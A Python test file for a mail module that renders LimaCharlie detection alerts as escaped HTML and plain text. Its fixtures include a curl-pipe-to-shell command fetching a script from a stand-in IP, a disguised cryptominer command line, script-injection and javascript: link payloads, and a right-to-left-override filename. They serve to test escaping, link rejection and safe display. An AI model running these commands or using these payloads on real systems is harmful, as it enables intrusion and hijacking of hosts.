"""The mail for people."""

import copy
from html.parser import HTMLParser
from typing import Any

import pytest
from dialects.limacharlie import elements
from hypothesis import given
from hypothesis import strategies as st
from strategies import examples

from nina_smtp.dialects.limacharlie.readable import html
from nina_smtp.dialects.limacharlie.tables import LEVELS, ROWS, SIZE, VALUE_LENGTH
from nina_smtp.message.plaintext import text_from_html

TAGS = {"html", "head", "meta", "title", "body", "table", "tr", "td", "th", "div", "span", "h1", "h2", "p"}
TAGS |= {"a", "br", "wbr"}
ATTRIBUTES = {"lang", "charset", "name", "content", "style", "role", "width", "cellpadding", "cellspacing"}
ATTRIBUTES |= {"bgcolor", "align", "valign", "href"}
MARKUP = "<>&\"'/ab\u202e\n"


class Reader(HTMLParser):
    """What a browser would see: tags, attributes, links."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str | None] = []
        self.open: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value for name, value in attrs if name == "href"]
        if tag not in ("meta", "br", "wbr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def checked(page: str) -> Reader:
    reader = Reader(page)
    assert reader.tags <= TAGS
    assert reader.attributes <= ATTRIBUTES
    assert not reader.open
    assert "url(" not in page
    page.encode()
    return reader


def text(element: Any, stream: str = "event") -> str:
    page = html(element, stream)
    checked(page)
    return text_from_html(page)


@pytest.mark.parametrize("stream", elements.BY_STREAM)
def test_every_value_of_every_stream_is_there(stream: str):
    def leaves(value: Any) -> list[str]:
        if isinstance(value, dict):
            return [*value, *(leaf for inner in value.values() for leaf in leaves(inner))]
        return (
            [leaf for inner in value for leaf in leaves(inner)] if isinstance(value, list) else [str(value)]
        )

    page = text(elements.BY_STREAM[stream], stream)
    assert [leaf for leaf in leaves(elements.BY_STREAM[stream]) if leaf not in page] == []


def test_a_detection_reads_well_as_plain_text():
    assert text(elements.DETECTION, "detect").startswith(
        "High LimaCharlie Detection\n"
        "\n"
        "00313-NIX-Execution_From_Tmp\n"
        "\n"
        "Severity\tHigh, priority 7\n"
        "Host\tweb-1\n"
        "User\twww-data\n"
        "Time\t2026-03-04 13:23:02 UTC\n"
        "What\t/tmp/.x/kworker -o pool.example.net:4444 -u 44AFFq5kSiGB -p x --donate-level 1\n"
        "Source rule\tnix-execution-from-tmp\n"
    )


def test_the_tables_read_well_as_plain_text():
    plain = text(elements.DETECTION, "detect")
    assert (
        "\n\ndetect › event › PARENT\n\nCOMMAND_LINE\tsh -c curl -s http://198.51.100.42/i.sh | sh\n" in plain
    )
    assert "\nrouting\tthe same as routing, at the end\n" in plain
    assert "\nevent_time\t1772630582315 (2026-03-04 13:23:02 UTC)\n" in plain
    assert "\nplat\t536870912 (Linux)\n" in plain
    assert "\ntags\tlinux, dmz, production\n" in plain


def test_what_happened_comes_first_and_where_it_was_seen_last():
    plain = text(elements.DETECTION, "detect")
    order = [
        "\n\ndetect_data\n",
        "\n\ndetect › event\n",
        "\n\ndetect_mtd\n",
        "\n\nother fields\n",
        "\n\nrouting\n",
    ]
    places = [plain.index(part) for part in order]
    assert places == sorted(places)


def test_a_link_is_a_button_that_says_where_it_leads():
    reader = checked(html(elements.DETECTION, "detect"))
    assert reader.links == [elements.DETECTION["link"]]
    assert "Open app.limacharlie.io <https://app.limacharlie.io/orgs/" in text(elements.DETECTION, "detect")


@pytest.mark.parametrize(
    "link",
    [
        "http://plain.example/",
        "javascript:alert(1)",
        "https://good.example@evil.example/",
        'https://a.example/" onclick="x',
        "https://exämple.org/",
        "https://[::1/",
        "https://a b.example/",
        "https:///nothing",
        "https://a.example/" + "x" * 3000,
        "https://a.example/\u202e",
    ],
)
def test_any_other_link_is_text(link: str):
    assert checked(html({**elements.DETECTION, "link": link}, "detect")).links == []


def test_what_does_not_show_is_made_visible():
    element = {"event": {"FILE": "invoice\u202efdp.exe\x1b[0m\u200b\ud800", "half\u2066": "a\u3000b\xa0c"}}
    plain = text(element)
    assert "invoice\\u202efdp.exe\\x1b[0m\\u200b\\ud800" in plain
    assert "half\\u2066" in plain
    assert "a\u3000b\xa0c" in plain


def test_lines_of_a_value_stay_lines():
    assert "first\nsecond <b>" in text({"event": {"x": "first\r\nsecond <b>"}})


def test_a_long_value_is_cut_and_what_is_left_out_is_counted():
    plain = text({"event": {"COMMAND": "x" * 5000}})
    assert "x" * VALUE_LENGTH + f"… and {5000 - VALUE_LENGTH} more characters" in plain
    assert "x" * (VALUE_LENGTH + 1) not in plain


def test_many_rows_are_cut_and_counted():
    plain = text({"event": {f"k{number}": number for number in range(1000)}, "list": list(range(1000))})
    assert f"and {1000 - ROWS} more entries, left out" in plain
    assert f"and {1000 - ROWS} more, left out" in plain


def test_many_levels_are_cut():
    deep: Any = {"end": 1}
    for _ in range(20_000):
        deep = {"a": deep}
    plain = text(deep)
    assert f"\n{' › '.join('a' * LEVELS)}\n" in plain
    assert "a\t1 entries, too deep to be shown" in plain


def test_routing_too_deep_to_be_compared_is_shown_twice():
    def deep() -> dict[str, Any]:
        inner: dict[str, Any] = {}
        for _ in range(200_000):
            inner = {"a": inner}
        return inner

    plain = text({"event": {"routing": deep()}, "routing": deep()})
    assert "\nevent › routing › a" in plain
    assert "\nrouting › a" in plain


@pytest.mark.parametrize(
    "element",
    [
        pytest.param({"event": [{"k": "漢" * 900} for _ in range(10_000)]}, id="long values"),
        pytest.param({f"part{number}": {"a": "&" * 900} for number in range(10_000)}, id="many parts"),
        pytest.param({"event": {"x": "<" * 10_000_000}}, id="one long value"),
        pytest.param({"event": {f"k{n}": [[n] * 50] * 50 for n in range(500)}}, id="lists in lists"),
    ],
)
def test_a_large_element_makes_a_page_of_limited_size(element: Any):
    page = html(element, "event")
    checked(page)
    assert len(page.encode()) < SIZE + 20_000


def test_what_has_no_room_is_counted():
    element = {f"part{number}": {"a": "&" * 900} for number in range(300)}
    plain = text(element)
    shown = plain.count("\n\npart")
    assert 50 < shown < 300
    assert f"{300 - shown} more tables of this element are left out here" in plain
    assert "More than 1000 further tables" in text({f"p{n}": {"a": "&" * 900} for n in range(2000)})


@pytest.mark.parametrize(
    "element", [None, 5, "text", [], {}, [1, {"a": []}], {"a": 10**5000}, {"routing": 5}]
)
def test_a_strange_element_has_a_page(element: Any):
    assert "LimaCharlie" in text(element)


def test_nothing_of_an_element_is_markup():
    element = copy.deepcopy(elements.DETECTION)
    evil = "\"'><script>alert(1)</script><img src=x onerror=y>&lt;"
    for place in (element, element["routing"], element["detect"]["event"]):
        for key in list(place):
            place[key] = evil
        place[evil] = [evil, {evil: evil}]
    page = html(element, "detect")
    checked(page)
    assert "<script" not in page
    assert "<img" not in page
    assert evil in text_from_html(page)


@given(elements.ANY_JSON, st.sampled_from([*elements.BY_STREAM, "nonsense"]))
@examples(120)
def test_whatever_the_element_is_it_has_a_page_without_its_markup(element: Any, stream: str):
    checked(html(element, stream))


@given(
    st.recursive(
        st.text("<>&\"'/ab\u202e\n", max_size=30), lambda inner: st.dictionaries(st.text("<>&'\"a"), inner)
    )
)
@examples(80)
def test_no_character_of_an_element_opens_a_tag(element: Any):
    checked(
        html({"cat": element, "detect": element, "link": element, "routing": {"hostname": element}}, "detect")
    )
